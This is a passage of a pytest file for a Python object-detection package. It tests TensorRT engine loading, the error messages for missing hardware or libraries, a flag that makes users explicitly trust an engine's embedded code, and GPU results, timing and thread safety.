def test_what_is_missing_on_the_machine_is_named(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx)
    with pytest.raises(ModelError, match=r"an engine runs on a GPU only; .* run the \.onnx"):
        load_runner(path, device="cpu")

    def no_library() -> Path:
        raise FileNotFoundError("lib.so is not built; run: python -m rgfl.plugins.build")

    with monkeypatch.context() as patch:
        patch.setattr("rgfl.plugins.library", no_library)
        message = refused(path, r"run: python -m rgfl\.plugins\.build")
        assert message.endswith("or, if it was built with --version-compatible, copy m.engine.json along")
    with monkeypatch.context() as patch:
        (tmp_path / "noise.so").write_bytes(b"no library")
        patch.setattr(launcher, "RotatedNms", lambda: RotatedNms(tmp_path / "noise.so"))
        behind = write_engine(tmp_path / "behind.engine", tiny_onnx, backend="rtx")
        refused(behind, r"NMS runs behind this engine, and .*noise\.so.*; run: python -m .*build --force$")
    with monkeypatch.context() as patch:
        patch.setattr(hardware, "find_gpu", lambda: None)
        refused(path, r"needs an NVIDIA GPU, and CUDA's driver finds none here; run the \.onnx")
    monkeypatch.undo()
    monkeypatch.setattr(hardware, "find_gpu", lambda: hardware.Gpu("NVIDIA H200", (9, 0)))
    monkeypatch.setattr(tensorrt_api, "_installed", lambda backend: False)
    message = refused(path, r"an engine of TensorRT 10\.16\.1\.11: TensorRT is not installed: pip install")
    assert message.endswith(f"python export/to_trt.py MODEL.onnx --out {path}")


def test_the_plugin_comes_before_the_engine_or_inside_it(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    used = machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx, version=(10, 9, 0, 34))
    record = {"sha256": file_facts(path)["sha256"], "version_compatible": True, "precision": "fp16"}
    tensorrt_api.record_path(path).write_text(json.dumps(record))
    with open_runner(path, trust_engine=True) as runner:
        assert runner.engine._runtime.engine_host_code_allowed
        assert runner.precision == "fp16"
    assert used.trt.loaded == []
    monkeypatch.setattr(Runtime, "load_library", lambda self, path: None)
    path = write_engine(tmp_path / "other.engine", tiny_onnx)
    open_runner(path).close()  # None: another engine of this process has loaded it
    monkeypatch.setattr(Runtime, "get_creator", lambda self, *names: None)
    with pytest.raises(
        ModelError, match=r"librgfl_plugins\.so: TensorRT 10.* cannot load it; run: python -m"
    ):
        load_runner(path)


@pytest.mark.parametrize("backend", ["tensorrt", "rtx"])
def test_a_record_alone_lets_no_code_of_an_engine_run(
    backend: str, machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)
    record = {"sha256": file_facts(path)["sha256"], "version_compatible": True}
    tensorrt_api.record_path(path).write_text(json.dumps(record))
    refused(path, r"carries libraries .* trust it like a program, give --trust-engine \(trust_engine=True")
    assert set(used.trt.alive) == set()  # not so much as a runtime was made
    path = write_engine(tmp_path / "other.engine", tiny_onnx, backend=backend)
    with open_runner(path, trust_engine=True) as runner:
        assert not runner.engine._runtime.engine_host_code_allowed


def test_the_flag_of_trust_reaches_the_runner(
    tiny_onnx: Path,
    tiny_scenes: SimpleNamespace,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture,
) -> None:
    given = []

    def load(path: Path, *, trust_engine: bool, **_: object) -> Runner:
        given.append(trust_engine)
        raise ModelError("seen")

    model, images = str(tiny_onnx), str(tiny_scenes.images)
    commands: list[tuple[Any, list[str]]] = [
        (bench, ["--model", model]),
        (pipeline, ["--model", model, "--images", images, "--out", str(tmp_path / "out")]),
        (eval_dota, ["--model", model, "--images", images, "--draw", str(tmp_path / "drawn")]),
        (verify, [model, "--reference", model]),
        (verify, [model, "--reference", model, "--detections"]),
    ]
    for module in (scenes, verify):
        monkeypatch.setattr(module, "load_runner", load)
    for module, words in commands:
        for flags in ([], ["--trust-engine"]):
            assert module.main([*words, *flags]) == 2
            assert "error: seen" in capsys.readouterr().err
    assert given == [False, True] * len(commands)


def test_a_count_that_cannot_be_is_an_error(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    machine()
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx)) as runner:
        counts, *rest = runner.infer(runner.prepare(TILES[:1]))
        counts[0, 0] = 2001
        with pytest.raises(ModelError, match="counts 2001 detections, expected 0 to 2000"):
            runner.finish((counts, *rest))  # type: ignore[arg-type]


# --- the real thing --------------------------------------------------------------------------------------


def skip_without_tensorrt_on_a_gpu() -> None:
    gpu = hardware.find_gpu()
    if gpu is None:
        pytest.skip("needs an NVIDIA GPU; this machine has none")
    if not any(map(tensorrt_api._installed, ("tensorrt", "rtx"))):
        pytest.skip("needs TensorRT: pip install 'rgfl[tensorrt]'")
    if not tensorrt_api._installed("tensorrt") and gpu.capability not in tensorrt_api.RTX_CAPABILITIES:
        pytest.skip(f"TensorRT for RTX does not run on {gpu}: pip install 'rgfl[tensorrt]'")


@pytest.fixture
def gpu_engine(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """Built by what is installed. Skips before it asks for the model, whose packages may be missing, too."""
    skip_without_tensorrt_on_a_gpu()
    from rgfl.export import to_trt

    model = shutil.copy(request.getfixturevalue("tiny_onnx"), tmp_path / "model.onnx")
    out = tmp_path / "model.engine"
    assert to_trt.main([str(model), "--out", str(out), "--max-batch", "4"]) == 0
    return out


def test_tensorrt_for_rtx_alone_is_no_failure_on_a_gpu_of_a_data_centre(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The tests below skip there, with what to install."""
    monkeypatch.setattr(hardware, "find_gpu", lambda: hardware.Gpu("NVIDIA H100", (9, 0)))
    monkeypatch.setattr(tensorrt_api, "_installed", lambda backend: backend == "rtx")
    with pytest.raises(pytest.skip.Exception, match=r"does not run on NVIDIA H100 .* 'rgfl\[tensorrt\]'"):
        skip_without_tensorrt_on_a_gpu()


@pytest.mark.gpu
@pytest.mark.parametrize("batch", [1, 2, 4, 10])
def test_on_a_gpu_it_finds_what_onnx_runtime_finds(
    batch: int, gpu_engine: Path, request: pytest.FixtureRequest
) -> None:
    reference = request.getfixturevalue("reference")
    with load_runner(gpu_engine) as runner:
        assert isinstance(runner, EngineRunner)
        expected = reference(TILES[:batch])
        first = runner(TILES[:batch])
        for _ in range(20):
            assert_equal(runner(TILES[:batch]), first)
        for one, two in zip(first, expected, strict=True):
            matched = match_detections(one, two, 0.9)
            assert len(matched) >= 0.99 * max(len(one), len(two))
        assert runner.graph_note == ""


@pytest.mark.gpu
def test_on_a_gpu_torch_tensors_are_read_where_they_are(gpu_engine: Path) -> None:
    torch = pytest.importorskip("torch")
    with load_runner(gpu_engine) as runner:
        assert_equal(runner(torch.from_numpy(TILES[:2]).cuda()), runner(TILES[:2]))


@pytest.mark.gpu
def test_on_a_gpu_pycuda_arrays_are_read_where_they_are(gpu_engine: Path) -> None:
    gpuarray = pytest.importorskip("pycuda.gpuarray", reason="needs PyCUDA: pip install 'rgfl[pycuda]'")
    pytest.importorskip("pycuda.autoprimaryctx")
    with load_runner(gpu_engine) as runner:
        assert_equal(runner(gpuarray.to_gpu(TILES[:2])), runner(TILES[:2]))


@pytest.mark.gpu
def test_on_a_gpu_the_parts_of_a_call_are_timed(gpu_engine: Path, tmp_path: Path) -> None:
    from rgfl.trt_runtime import bench

    out = tmp_path / "bench.json"
    command = ["--model", gpu_engine, "--batch", "1,4,8", "--repeat", 20, "--streamed", "--json", out]
    assert bench.main(list(map(str, command))) == 0
    for row in json.loads(out.read_text())["results"]:
        assert all(value["p50"] > 0 for value in row["device_ms"].values())
        assert row["device_ms"]["network"]["p50"] <= row["latency_ms"]["p50"]


@pytest.mark.gpu
def test_on_a_gpu_two_threads_and_nothing_left(gpu_engine: Path) -> None:
    from cuda.bindings import runtime

    free: list[int] = []

    def work(runner: Runner, found: list[list[Detections]]) -> None:
        for _ in range(50):
            found.append(runner(TILES[:4]))

    for _ in range(4):
        with load_runner(gpu_engine) as first, first.fork() as second:  # type: ignore[attr-defined]
            expected = first(TILES[:4])
            found: list[list[Detections]] = []
            threads = [threading.Thread(target=work, args=(runner, found)) for runner in (first, second)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
        assert len(found) == 100
        for one in found:
            assert_equal(one, expected)
        free.append(runtime.cudaMemGetInfo()[1])
    assert free[-1] >= free[1] - (1 << 20)  # the first round loads what stays for the process
